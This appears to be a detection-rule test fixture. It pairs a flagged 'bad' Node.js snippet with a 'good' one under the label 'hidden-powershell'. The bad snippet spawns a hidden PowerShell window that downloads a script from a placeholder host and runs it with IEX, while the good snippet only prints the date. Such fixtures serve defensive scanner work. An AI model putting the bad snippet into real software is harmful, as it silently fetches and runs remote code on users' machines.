//: bad hidden-powershell
const { exec } = require('child_process');

exec("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://d.example.invalid/a.ps1')\"", { //!
  windowsHide: true,
});

//: good hidden-powershell
const { execFile } = require('child_process');

execFile('powershell', ['-NoProfile', '-Command', 'Get-Date -Format o'], { windowsHide: true }, (error, out) => {
  console.log(error ? 'unknown' : out.trim());
});
